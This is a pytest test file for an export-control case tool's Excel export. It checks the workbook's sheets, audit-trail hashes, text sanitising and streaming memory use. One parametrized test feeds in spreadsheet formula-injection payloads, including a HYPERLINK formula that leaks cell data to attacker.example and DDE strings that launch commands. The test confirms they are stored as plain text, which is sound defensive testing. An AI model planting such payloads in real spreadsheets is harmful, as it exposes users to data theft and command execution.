from __future__ import annotations

import zipfile
from datetime import datetime, timedelta

import pytest
from helpers_cases import OFFICER, RESEARCHER, stored_result
from openpyxl import load_workbook

from exportctl.cases import CaseRepository
from exportctl.export_excel import export_filename, safe_text, workbook_bytes, write_workbook

ABSTRACT = "Fibre laser delivering 30 W continuous output at 1064 nm."


@pytest.fixture()
def repo(tmp_path):
    repository = CaseRepository.open(f"sqlite:///{tmp_path / 'cases.sqlite3'}")
    yield repository
    repository.dispose()


def decided_case(repo, *, title="Fibre laser", abstract=ABSTRACT):
    case_id = repo.create_case(
        RESEARCHER, title=title, abstract=abstract, result=stored_result(abstract)
    )
    case = repo.get_case(OFFICER, case_id)
    repo.review_suggestion(
        OFFICER, case.suggestions[0].id, status="confirmed", note="30 W", expected_version=1
    )
    repo.review_suggestion(
        OFFICER, case.suggestions[1].id, status="rejected", note="no tech", expected_version=1
    )
    case = repo.get_case(OFFICER, case_id)
    repo.decide(
        OFFICER,
        case_id,
        decision="listed_exempt_basic_research",
        atas_decision="not_required",
        note="Basic research",
        expected_version=case.version,
    )
    return case_id


def export(repo, tmp_path):
    path = tmp_path / "decisions.xlsx"
    data = repo.export_data(OFFICER)
    write_workbook(data, path)
    return path, load_workbook(path)


def _same_time(cell: datetime, stored: datetime) -> bool:
    """Excel keeps times to the millisecond."""
    return isinstance(cell, datetime) and abs(cell - stored) < timedelta(milliseconds=1)


def rows_as_dicts(ws):
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_export_excel_sheets_rows_and_styling(repo, tmp_path):
    case_id = decided_case(repo)
    path, workbook = export(repo, tmp_path)
    assert workbook.sheetnames == ["Cases", "Suggestions", "Audit trail", "About"]
    cases = workbook["Cases"]
    (row,) = rows_as_dicts(cases)
    assert row["Case ID"] == f"C-{case_id:05d}"
    assert row["Title"] == "Fibre laser"
    assert row["Researcher"] == "rosa"
    assert row["Decision"] == "Listed — exempt (basic scientific research)"
    assert row["Screening verdict"] == "Possibly listed"  # as screened, read from the store
    assert row["Entries confirmed"] == "6A005.a"
    assert row["ATAS decision"] == "ATAS not required"
    assert row["Officer"] == "olu"
    assert row["List version"] == "uk-consolidated/2025-12-16"
    case = repo.get_case(OFFICER, case_id)
    for header, when in [
        ("Created (UTC)", case.created_at),
        ("Submitted (UTC)", case.submitted_at),
        ("Decided (UTC)", case.decided_at),
    ]:
        assert _same_time(row[header], when), (header, row[header], when)
    assert row["Created (UTC)"] <= row["Decided (UTC)"]
    decided_cell = cases.cell(row=2, column=[c.value for c in cases[1]].index("Decided (UTC)") + 1)
    assert decided_cell.is_date
    assert cases.freeze_panes == "A2"
    assert cases.auto_filter.ref.startswith("A1:")
    assert cases["A1"].font.bold
    assert cases.column_dimensions["C"].width >= 20

    suggestions = rows_as_dicts(workbook["Suggestions"])
    assert [(s["Code"], s["Review"], s["Note"]) for s in suggestions] == [
        ("6A005.a", "Confirmed", "30 W"),
        ("6E002", "Rejected", "no tech"),
    ]
    assert suggestions[0]["Score"] == pytest.approx(1.0)
    assert suggestions[0]["Evidence"] == "'Fibre laser' (lexical 1.000)"
    assert "What is the output power?" in suggestions[0]["Thresholds"]

    audit = rows_as_dicts(workbook["Audit trail"])
    assert [a["Action"] for a in audit] == [
        "case_submitted",
        "suggestion_confirmed",
        "suggestion_rejected",
        "case_decided",
    ]
    trail = repo.audit_trail(OFFICER)
    assert [a["Action"] for a in audit] == [e.action for e in trail]
    assert all(_same_time(a["When (UTC)"], e.at) for a, e in zip(audit, trail, strict=True))
    assert [a["When (UTC)"] for a in audit] == sorted(a["When (UTC)"] for a in audit)
    assert audit[1]["Who"] == "olu" and audit[1]["List version"] == "uk-consolidated/2025-12-16"
    # Each record with its link in the chain, and the chain's head on the About sheet: a
    # printed workbook can be checked against the database later.
    assert [a["Record hash (SHA-256)"] for a in audit] == [e.record_hash for e in trail]
    about = dict(workbook["About"].iter_rows(values_only=True))
    assert about["Audit chain head"] == f"4:{trail[-1].record_hash}"
    assert f"exportctl audit verify --head 4:{trail[-1].record_hash}" in about["Check it later"]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ],
)
def test_export_excel_formula_injection_is_written_as_text(repo, tmp_path, text):
    decided_case(repo, title=text, abstract=text)
    path, workbook = export(repo, tmp_path)
    cases = workbook["Cases"]
    headers = [c.value for c in cases[1]]
    for header in ("Title", "Abstract"):
        cell = cases.cell(row=2, column=headers.index(header) + 1)
        assert cell.data_type == "s"
        assert cell.quotePrefix
    abstract = cases.cell(row=2, column=headers.index("Abstract") + 1).value
    assert abstract == text
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_export_excel_removes_control_characters_and_truncates(repo, tmp_path):
    decided_case(repo, title="Bell\x07 title", abstract="x" * 40_000)
    _, workbook = export(repo, tmp_path)
    (row,) = rows_as_dicts(workbook["Cases"])
    assert row["Title"] == "Bell title"
    assert len(row["Abstract"]) == 32_767 and row["Abstract"].endswith("[truncated]")
    assert safe_text("ok\x00") == "ok"


def test_export_excel_empty_store_gives_headers_only(repo):
    data = repo.export_data(OFFICER)
    workbook = load_workbook(__import__("io").BytesIO(workbook_bytes(data)))
    assert workbook["Cases"].max_row == 1
    assert export_filename(data).startswith("exportctl-decisions-")


def test_export_excel_memory_does_not_grow_with_the_number_of_cases(repo, tmp_path, monkeypatch):
    """An export streams: four times the cases take no more memory at the peak (cases are
    read a chunk at a time, rows written to temporary files, then copied into the package a
    chunk at a time). The first release held every case and cell in memory (about 2 GB for
    5,000 cases)."""
    import tracemalloc

    import exportctl.cases.repository as repository_module
    import exportctl.xlsx_writer as xlsx_module

    monkeypatch.setattr(repository_module, "EXPORT_CHUNK", 10)
    monkeypatch.setattr(xlsx_module, "COPY_CHUNK", 16_384)
    abstract = "A fibre laser of 30 W at 1070 nm. " * 40

    def peak_after(total: int) -> int:
        while repo.list_case_summaries(OFFICER, limit=1).total < total:
            repo.create_case(
                RESEARCHER, title="Laser", abstract=abstract, result=stored_result(abstract)
            )
        tracemalloc.start()
        try:
            write_workbook(repo.export_stream(OFFICER), tmp_path / f"{total}.xlsx")
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    small, large = peak_after(60), peak_after(240)
    assert (tmp_path / "240.xlsx").stat().st_size > 3 * (tmp_path / "60.xlsx").stat().st_size
    assert large < small * 1.25
